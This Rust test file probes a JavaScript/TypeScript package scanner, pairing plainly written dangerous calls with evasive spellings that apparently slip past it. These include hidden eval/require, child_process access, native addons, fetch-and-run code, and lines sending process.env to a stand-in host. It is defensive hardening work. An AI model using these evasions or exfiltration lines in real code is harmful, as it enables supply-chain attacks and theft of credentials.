//! SLO-02: security review probes of the compatibility scanner: each test pairs a
//! plain spelling the scanner reports with spellings that do the same thing at
//! run time (verified with Node 20 / the TypeScript 5 transpiler) and that the
//! scanner misses. Each test fails while any evasive spelling is missed.

use seclab_engine::scanner::{scan_paths, scan_source, FileReport};
use seclab_engine::{RuleId, Verdict};

fn scan(label: &str, src: &str) -> FileReport {
    scan_source(label, src.as_bytes())
}

fn has(label: &str, src: &str, rule: RuleId) -> bool {
    scan(label, src).findings.iter().any(|f| f.rule == rule)
}

/// The cases whose report lacks `rule` (the plain spelling must have it).
fn check(m: &mut Vec<String>, label: &str, plain: &str, rule: RuleId, evasive: &[&str]) {
    assert!(has(label, plain, rule), "control not reported: {plain}");
    let missed: Vec<String> = evasive
        .iter()
        .filter(|src| !has(label, src, rule))
        .map(|src| {
            let r = scan(label, src);
            let got: Vec<_> = r.findings.iter().map(|f| f.rule).collect();
            format!("  {src}\n    -> {} {got:?}", r.verdict)
        })
        .collect();
    if missed.is_empty() {
        return;
    }
    m.push(format!(
        "{rule} missed in {} of {} spellings ({label}):\n{}",
        missed.len(),
        evasive.len(),
        missed.join("\n")
    ));
}

/// As [`check`], for spellings whose plain form is forbidden: the verdict must be too.
fn check_forbidden(m: &mut Vec<String>, label: &str, plain: &str, evasive: &[&str]) {
    assert_eq!(scan(label, plain).verdict, Verdict::Forbidden, "control: {plain}");
    let missed: Vec<String> = evasive
        .iter()
        .filter(|src| scan(label, src).verdict != Verdict::Forbidden)
        .map(|src| {
            let r = scan(label, src);
            let got: Vec<_> = r.findings.iter().map(|f| f.rule).collect();
            format!("  {src}\n    -> {} {got:?}", r.verdict)
        })
        .collect();
    if missed.is_empty() {
        return;
    }
    m.push(format!(
        "not forbidden: {} of {} spellings ({label}):\n{}",
        missed.len(),
        evasive.len(),
        missed.join("\n")
    ));
}

/// Fail with every miss of a test.
fn done(m: Vec<String>) {
    assert!(m.is_empty(), "\n{}", m.join("\n"));
}

// 1. TypeScript ambient declarations / overload signatures (erased at compile
//    time) bind `require`, `eval`, `Function` to a symbol: every use in the file
//    is then invisible.
#[test]
fn slo_02_ts_ambient_declarations_do_not_hide_globals() {
    let mut m = Vec::new();
    check(
        &mut m,
        "t.ts",
        "require('child_process').execSync('id');",
        RuleId::ChildProcess,
        &[
            "declare function require(s: string): any;\nrequire('child_process').execSync('id');",
            "function require(s: string): any;\nrequire('child_process').execSync('id');",
        ],
    );
    check(
        &mut m,
        "t.ts",
        "eval(code);",
        RuleId::EvalCall,
        &[
            "declare var eval: any;\neval(code);",
            "declare const eval: (s: string) => any;\neval(code);",
            "declare function eval(s: string): any;\neval(code);",
        ],
    );
    check(
        &mut m,
        "t.ts",
        "new Function(code)();",
        RuleId::FunctionConstructor,
        &[
            "declare class Function { constructor(s: string) }\nnew Function(code)();",
            "declare const Function: any;\nnew Function(code)();",
        ],
    );
    done(m);
}

// 2. A package whose entry point (`main`, `exports`, `bin`) is a native addon:
//    Node dlopens it, the scanner reports nothing (the package has no report).
#[test]
fn slo_02_package_entry_native_addon_is_reported() {
    let d = tempfile::tempdir().unwrap();
    let plain = d.path().join("plain");
    std::fs::create_dir_all(&plain).unwrap();
    std::fs::write(plain.join("package.json"), r#"{"name":"p","main":"index.js"}"#).unwrap();
    std::fs::write(plain.join("index.js"), "module.exports = require('./addon.node');\n").unwrap();
    std::fs::write(plain.join("addon.node"), b"\x7fELF").unwrap();
    let r = scan_paths(&[plain]);
    assert!(
        r.iter()
            .flat_map(|r| &r.findings)
            .any(|f| f.rule == RuleId::NativeAddon),
        "control"
    );

    for manifest in [
        r#"{"name":"p","main":"addon.node"}"#,
        r#"{"name":"p","exports":{".":"./addon.node"}}"#,
        r#"{"name":"p","bin":"addon.node"}"#,
    ] {
        let root = d.path().join(format!("m{}", manifest.len()));
        std::fs::create_dir_all(&root).unwrap();
        std::fs::write(root.join("package.json"), manifest).unwrap();
        std::fs::write(root.join("addon.node"), b"\x7fELF").unwrap();
        let reports = scan_paths(&[root]);
        let found = reports
            .iter()
            .flat_map(|r| &r.findings)
            .any(|f| f.rule == RuleId::NativeAddon);
        assert!(found, "{manifest}: {reports:?}");
    }
}

// 3. Files Node loads through bare or `#` specifiers of the package itself
//    (package.json `imports`, a bundled node_modules dependency) are never
//    scanned when their extension is not a source extension.
#[test]
fn slo_02_package_hash_imports_and_bundled_deps_are_followed() {
    let d = tempfile::tempdir().unwrap();
    let payload = "eval('console.log(1)');\n";
    let eval_in = |reports: &[FileReport], file: &str| {
        reports
            .iter()
            .any(|r| r.file.ends_with(file) && r.findings.iter().any(|f| f.rule == RuleId::EvalCall))
    };
    // Control: the same payload required by a relative path.
    let plain = d.path().join("plain");
    std::fs::create_dir_all(plain.join("lib")).unwrap();
    std::fs::write(plain.join("package.json"), r#"{"name":"p","main":"index.js"}"#).unwrap();
    std::fs::write(
        plain.join("index.js"),
        "module.exports = require('./lib/payload.dat');\n",
    )
    .unwrap();
    std::fs::write(plain.join("lib/payload.dat"), payload).unwrap();
    assert!(eval_in(&scan_paths(&[plain]), "payload.dat"), "control");

    // package.json "imports" (subpath imports).
    let imports = d.path().join("imports");
    std::fs::create_dir_all(imports.join("lib")).unwrap();
    std::fs::write(
        imports.join("package.json"),
        r##"{"name":"p","main":"index.js","imports":{"#cfg":"./lib/payload.dat"}}"##,
    )
    .unwrap();
    std::fs::write(imports.join("index.js"), "module.exports = require('#cfg');\n").unwrap();
    std::fs::write(imports.join("lib/payload.dat"), payload).unwrap();
    let r1 = scan_paths(&[imports]);

    // A bundled dependency whose `main` has no source extension.
    let bundled = d.path().join("bundled");
    std::fs::create_dir_all(bundled.join("node_modules/helper/lib")).unwrap();
    std::fs::write(bundled.join("package.json"), r#"{"name":"p","main":"index.js"}"#).unwrap();
    std::fs::write(bundled.join("index.js"), "module.exports = require('helper');\n").unwrap();
    std::fs::write(
        bundled.join("node_modules/helper/package.json"),
        r#"{"name":"helper","main":"lib/run.dat"}"#,
    )
    .unwrap();
    std::fs::write(bundled.join("node_modules/helper/lib/run.dat"), payload).unwrap();
    let r2 = scan_paths(&[bundled]);
    assert!(
        eval_in(&r1, "payload.dat") && eval_in(&r2, "run.dat"),
        "imports: {r1:?}\nbundled: {r2:?}"
    );
}

// 4. The CommonJS module wrapper's own arguments: `arguments[1]` is `require`,
//    `arguments[2]` is `module`.
#[test]
fn slo_02_cjs_wrapper_arguments_reach_the_loader() {
    let mut m = Vec::new();
    check(
        &mut m,
        "t.cjs",
        "require('child_process').execSync('id');",
        RuleId::ChildProcess,
        &[
            "arguments[1]('child_process').execSync('id');",
            "const [, r] = arguments; r('child_process');",
        ],
    );
    check(
        &mut m,
        "t.cjs",
        "module.require('vm');",
        RuleId::ForbiddenBuiltin,
        &["arguments[2].require('vm');"],
    );
    done(m);
}

// 5. Module objects (and node:module internals) the value model does not
//    know: each reaches Module.prototype.require / Module._load / the native
//    addon loader.
#[test]
fn slo_02_other_module_objects_reach_the_loader() {
    let mut m = Vec::new();
    check_forbidden(
        &mut m,
        "t.cjs",
        "module.require('vm');",
        &[
            "module.parent.require('vm');",
            "Object.values(require.cache)[0].require('vm');",
            "require.main.children[0].require('vm');",
            "new module.constructor().require('vm');",
            "require('module').prototype.require.call(module, 'vm');",
            "const M = require('module'); M[['_lo', 'ad'].join('')]('vm');",
            // Module._extensions['.node'] is process.dlopen
            "module.constructor._extensions['.node'](module, '/tmp/x.node');",
            "require.extensions['.node'](module, '/tmp/x.node');",
        ],
    );
    done(m);
}

// 6. Copies of `process` (object spread, Object.assign) carry its own
//    enumerable members (env, binding, dlopen, mainModule); reads of them are
//    never reported.
#[test]
fn slo_02_copies_of_process_keep_their_members() {
    let mut m = Vec::new();
    check(
        &mut m,
        "t.js",
        "const { env } = process; fetch(u, { body: JSON.stringify(env) });",
        RuleId::ProcessEnv,
        &[
            "const { env } = { ...process }; fetch(u, { body: JSON.stringify(env) });",
            "const p = Object.assign({}, process); p.env.HOME;",
        ],
    );
    check(
        &mut m,
        "t.js",
        "fetch(u, { method: 'POST', body: JSON.stringify(process.env) });",
        RuleId::ExfiltrationChain,
        &["const p = Object.assign({}, process); fetch(u, { method: 'POST', body: JSON.stringify(p.env) });"],
    );
    check(
        &mut m,
        "t.js",
        "process.binding('fs');",
        RuleId::ProcessBinding,
        &[
            "Object.assign({}, process).binding('fs');",
            "({ ...process }).binding('fs');",
        ],
    );
    done(m);
}

// 6b. The whole environment obtained by destructuring `process` (or by
//     Reflect.get) carries no secret taint: sending it is only `flagged`.
#[test]
fn slo_02_destructured_env_keeps_its_secret_taint() {
    let mut m = Vec::new();
    check(
        &mut m,
        "t.js",
        "fetch('https://x.test', { method: 'POST', body: JSON.stringify(process.env) });",
        RuleId::ExfiltrationChain,
        &[
            "const { env } = process; fetch('https://x.test', { method: 'POST', body: JSON.stringify(env) });",
            "const { env: e } = globalThis.process; require('https').request('https://x.test').end(JSON.stringify(e));",
            "let e; ({ env: e } = process); fetch('https://x.test', { method: 'POST', body: JSON.stringify(e) });",
            "function send({ env }) { fetch('https://x.test', { method: 'POST', body: JSON.stringify(env) }) } send(process);",
            "const e = Reflect.get(process, 'env'); fetch('https://x.test', { method: 'POST', body: JSON.stringify(e) });",
            "const { env } = process; require('child_process').execFileSync('curl', ['-d', JSON.stringify(env), 'https://x.test']);",
        ],
    );
    done(m);
}

// 7. Values returned by calls are lost: local functions, identity-returning
//    builtins, Proxy, getters, callbacks of array/promise methods.
#[test]
fn slo_02_values_survive_calls() {
    let mut m = Vec::new();
    check(
        &mut m,
        "t.js",
        "const g = globalThis; g.eval(code);",
        RuleId::EvalCall,
        &[
            "const getG = () => globalThis; getG().eval(code);",
            "function g() { return globalThis } g().eval(code);",
            "Object.freeze(globalThis).eval(code);",
            "Object.create(globalThis).eval(code);",
            "new Proxy(globalThis, {}).eval(code);",
            "const o = { get g() { return globalThis } }; o.g.eval(code);",
            "[globalThis].map(g => g.eval(code));",
            "[globalThis].forEach(g => g.eval(code));",
            "Promise.resolve(globalThis).then(g => g.eval(code));",
        ],
    );
    done(m);
}

// 8. Bindings not made by an initializer: array-pattern and nested-pattern
//    assignment, for-of over a literal, catch parameters.
#[test]
fn slo_02_values_survive_non_initializer_bindings() {
    let mut m = Vec::new();
    check(
        &mut m,
        "t.js",
        "const [p] = [process]; p.binding('fs');",
        RuleId::ProcessBinding,
        &[
            "let p; [p] = [process]; p.binding('fs');",
            "let b; ({ x: { binding: b } } = { x: process }); b('fs');",
            "for (const p of [process]) p.binding('fs');",
            "try { throw process } catch (p) { p.binding('fs') }",
        ],
    );
    done(m);
}

// 9. `with (obj)`: names inside resolve to members of obj (sloppy scripts).
#[test]
fn slo_02_with_statement_members_are_seen() {
    let mut m = Vec::new();
    check(
        &mut m,
        "t.js",
        "process.binding('fs');",
        RuleId::ProcessBinding,
        &["with (process) { binding('fs') }"],
    );
    check(
        &mut m,
        "t.js",
        "process.mainModule.require('vm');",
        RuleId::ForbiddenBuiltin,
        &["with (process) { mainModule.require('vm') }"],
    );
    check(
        &mut m,
        "t.js",
        "JSON.stringify(process.env);",
        RuleId::ProcessEnv,
        &["with (process) { JSON.stringify(env) }"],
    );
    done(m);
}

// 10. Sloppy-mode `this` in a plainly called function is the global object.
#[test]
fn slo_02_sloppy_this_is_the_global_object() {
    let mut m = Vec::new();
    check(
        &mut m,
        "t.cjs",
        "globalThis.eval(code);",
        RuleId::EvalCall,
        &[
            "(function () { this.eval(code) })();",
            "function f() { this.eval(code) } f.call();",
            "const g = (function () { return this })(); g.eval(code);",
        ],
    );
    done(m);
}

// 11. Reflective reads: property descriptors and enumeration of the global
//     object / process (Reflect.get and globalThis[k] are reported).
#[test]
fn slo_02_reflective_reads_of_powerful_objects() {
    let mut m = Vec::new();
    check_forbidden(
        &mut m,
        "t.js",
        "Reflect.get(globalThis, 'eval')(code);",
        &[
            "Object.getOwnPropertyDescriptor(globalThis, 'eval').value(code);",
            "Reflect.getOwnPropertyDescriptor(process, 'binding').value('fs');",
            "Object.getOwnPropertyDescriptors(globalThis).eval.value(code);",
            "Object.entries(process).find(([k]) => k === 'binding')[1]('fs');",
        ],
    );
    done(m);
}

// 12. The AsyncFunction / GeneratorFunction constructors reached through
//     Object.getPrototypeOf, with a non-literal source or remote data.
#[test]
fn slo_02_function_constructors_via_prototype() {
    let mut m = Vec::new();
    check(
        &mut m,
        "t.js",
        "const src = 'return process'; (async function () {}).constructor(src)();",
        RuleId::FunctionConstructor,
        &[
            "const src = 'return process'; Object.getPrototypeOf(async function () {}).constructor(src)();",
            "const src = 'return process'; Reflect.getPrototypeOf(function* () {}).constructor(src)().next();",
        ],
    );
    check(
        &mut m,
        "t.js",
        "fetch(u).then(r => r.text()).then(c => new Function(c)());",
        RuleId::FetchAndRun,
        &["fetch(u).then(r => r.text()).then(c => Object.getPrototypeOf(async function () {}).constructor(c)());"],
    );
    done(m);
}
